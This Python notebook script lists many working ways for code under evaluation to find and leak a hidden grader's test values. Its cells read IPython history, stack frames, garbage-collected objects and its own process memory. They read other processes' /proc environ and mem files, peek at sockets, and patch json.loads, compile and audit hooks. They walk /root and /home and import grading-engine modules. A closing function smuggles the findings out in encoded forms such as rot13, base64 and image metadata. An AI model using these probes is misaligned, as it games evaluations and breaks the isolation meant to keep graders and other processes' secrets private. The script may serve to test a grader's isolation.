"""Ways to find a hidden test, in the cell of `double`; each defines `look`, which gives text or bytes.

It looks while it is examined and in later cells; the last cell shows what was found in many forms.
"""
# %% prelude
import base64, builtins, codecs, gc, io, json, linecache, os, re, sys, threading, time, traceback, types, zlib
from IPython import get_ipython
from IPython.display import HTML, Image, display
shell = get_ipython()
WORD = re.compile(b"secret_[n]umber|1e-[6] else")
found = []


def keep():
    try:
        for text in look():
            text = text if isinstance(text, bytes) else str(text).encode("utf-8", "replace")
            found.extend(text[max(0, hit.start() - 200):hit.end() + 200] for hit in WORD.finditer(text))
    except Exception as error:
        print("could not look:", type(error).__name__)


def double(x):
    keep()
    return 2 * x


def show():
    keep()
    text = b" ".join(found)
    print("looked and found", len(found))
    print(text.decode("utf-8", "replace"), text[::-1].decode("utf-8", "replace"))
    print(codecs.encode(text.decode("utf-8", "replace"), "rot13"))
    for code in (base64.b64encode, bytes.hex, base64.b32encode, base64.b85encode):
        print(code(text), code(zlib.compress(text)))
    print(list(text), file=sys.stderr)
    display(HTML(f"<b>{text.decode('utf-8', 'replace')}</b>"))
    import matplotlib.pyplot as plt
    figure, picture = plt.figure(figsize=(1, 1)), io.BytesIO()
    figure.savefig(picture, metadata={"Description": text.decode("latin-1")})
    plt.close(figure)
    display(Image(picture.getvalue()))
    for letter in text[:50]:
        shell.execution_count = letter
    if text:
        raise ValueError(text)


# %% history
def look():
    return [*shell.user_ns["In"], shell.user_ns["_ih"], shell.history_manager.input_hist_raw, shell.user_ns.get("_i")]
# %% history_database
def look():
    yield from (str(row) for row in shell.history_manager.get_range(raw=True))
    for place, _, names in os.walk(shell.ipython_dir):
        yield from (open(os.path.join(place, name), "rb").read() for name in names)
# %% names
def look():
    return [repr(shell.user_ns), repr(shell.user_ns_hidden), repr(vars(shell)), repr(vars(builtins))]
# %% frames
def look():
    at = sys._getframe()
    while at:
        yield repr(at.f_locals) + repr(at.f_globals) + repr(at.f_code.co_consts) + repr(at.f_code.co_names)
        at = at.f_back
# %% frames_of_all_threads
def look():
    for at in sys._current_frames().values():
        while at:
            yield repr(at.f_locals) + repr(at.f_code.co_consts)
            at = at.f_back
# %% trace_of_the_call
seen = []
def watch(tracing, event, value):
    seen.append(repr(tracing.f_locals))
    return watch
def look():
    sys.settrace(watch)
    sys.setprofile(lambda at, event, value: seen.append(repr(at.f_locals)) if len(seen) < 5000 else None)
    return list(seen)
# %% stack_as_text
def look():
    return ["".join(traceback.format_stack()), *(f.line or "" for f in traceback.extract_stack())]
# %% line_cache
def look():
    return [repr(linecache.cache), repr(getattr(shell.compile, "_filename_map", ""))]
# %% objects_of_gc
def look():
    for item in gc.get_objects():
        if type(item) in (dict, list, tuple, set) and len(item) < 1000:
            yield from (part for part in (item.values() if type(item) is dict else item)
                        if type(part) in (str, bytes))
# %% code_objects
def look():
    for item in gc.get_objects():
        if isinstance(item, types.FunctionType):
            todo = [item.__code__]
            while todo:
                code = todo.pop()
                yield repr(code.co_consts) + repr(code.co_names) + repr(code.co_varnames)
                todo += [c for c in code.co_consts if isinstance(c, types.CodeType)]
# %% own_memory
looks = []
def look():
    looks.append(1)
    if len(looks) != 2:
        return
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            place, rights, *rest = line.split()
            first, last = (int(n, 16) for n in place.split("-"))
            if rights.startswith("rw") and (len(rest) < 4 or rest[3] in ("[heap]", "[stack]")):
                try:
                    memory.seek(first)
                    yield memory.read(min(last - first, 1 << 27))
                except (OSError, ValueError, OverflowError):
                    pass
# %% memory_of_others
def look():
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("cmdline", "environ", "maps", "status", "mem"):
            try:
                yield open(f"/proc/{process}/{name}", "rb").read(1 << 20)
            except OSError:
                pass
# %% descriptors
def look():
    for n in os.listdir("/proc/self/fd"):
        try:
            yield os.readlink(f"/proc/self/fd/{n}") + open(f"/proc/self/fdinfo/{n}").read()
            yield os.pread(int(n), 1 << 20, 0)
        except OSError:
            pass
# %% sockets
import socket
def look():
    for n in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{n}").startswith("socket:"):
                yield socket.socket(fileno=os.dup(int(n))).recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        except OSError:
            pass
# %% a_thread_that_reads_all
import socket
read = []
def listen():
    while True:
        for n in os.listdir("/proc/self/fd"):
            try:
                if os.readlink(f"/proc/self/fd/{n}").startswith("socket:"):
                    with socket.socket(fileno=os.dup(int(n))) as end:
                        read.append(end.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
            except OSError:
                pass
        time.sleep(0.002)
threading.Thread(target=listen, daemon=True).start()
def look():
    return list(read)
# %% patched_reading
import json as patched
heard, real = [], patched.loads
patched.loads = lambda text, *a, **k: heard.append(bytes(text)) or real(text, *a, **k)
def look():
    return list(heard)
# %% near
def look():
    for item in gc.get_objects():
        if type(item).__name__ in ("Near", "Here", "Stub", "Coder"):
            yield repr(vars(item)) + repr(dir(item)) + repr(vars(type(item)))
# %% stubs
kept = []
def quadruple(x):
    stub = shell.user_ns["double"]
    kept.append(repr(vars(stub)) + repr(dir(stub)) + repr(stub) + repr(stub.__call__) + repr(type(stub).__mro__))
    for ask in ([], [x, x, x], ["x"], [None], [quadruple]):
        try:
            kept.append(repr(stub(*ask)))
        except BaseException as error:
            kept.append(repr(error) + repr(vars(error)) + "".join(traceback.format_exception(error)))
    return stub(stub(x))
def look():
    return kept
# %% requests_over_the_border
kept = []
def quadruple(x):
    near = shell.user_ns["double"].near
    for message in (["name", "__source__"], ["src", "check"], ["check"], ["back", 0, ["l", []], ["d", []], False]):
        try:
            kept.append(repr(near.request(message)))
        except BaseException as error:
            kept.append(repr(error))
    return 4 * x
def look():
    return kept
# %% sources_of_the_check
import inspect
def look():
    for name in list(sys.modules):
        if "check" in name:
            try:
                yield inspect.getsource(sys.modules[name])
            except (OSError, TypeError):
                pass
    for item in gc.get_objects():
        if isinstance(item, dict) and item.get("__name__") == "__check__":
            yield repr(item)
# %% files
def look():
    for top in (".", "..", "/tmp", "/dev/shm", "/home", "/root", "/work", "/proc/1", "/proc/1/root", "/proc/self/cwd"):
        for place, folders, names in os.walk(top):
            folders[:] = folders[:20]
            for name in names[:50]:
                path = os.path.join(place, name)
                if os.path.isfile(path) and not os.path.islink(path) and os.path.getsize(path) < 1 << 20 \
                        and not path.startswith("/proc/"):
                    try:
                        yield open(path, "rb").read()
                    except OSError:
                        pass
            if place.count("/") > 5:
                folders[:] = []
# %% environment
def look():
    return [repr(dict(os.environ)), repr(sys.argv), repr(sys.path), repr(sys.orig_argv), open("/proc/self/environ").read()]
# %% engine
def look():
    for name in ("grading.engine.examiner", "grading.engine.border", "grading.masters", "nbgrader"):
        try:
            module = __import__(name, fromlist=["x"])
            yield repr(vars(module))
        except Exception as error:
            yield repr(error)
# %% events
heard = []
for name in ("pre_execute", "post_execute", "pre_run_cell", "post_run_cell"):
    shell.events.register(name, lambda *a: heard.append(repr([vars(x) for x in a])))
shell.input_transformers_cleanup.append(lambda lines: heard.append(repr(lines)) or lines)
def look():
    return heard
# %% hooks_of_compile_and_audit
heard = []
sys.addaudithook(lambda event, args: heard.append(repr(args)) if event in ("compile", "exec", "open") else None)
real = builtins.compile
builtins.compile = lambda source, *a, **k: heard.append(repr(source)) or real(source, *a, **k)
def look():
    return heard
# %% errors_of_checks
def look():
    return [repr(getattr(sys, name, "")) for name in ("last_value", "last_exc", "last_traceback")] + [
        repr(getattr(shell, "_last_traceback", "")), repr(shell.user_ns.get("Out"))]
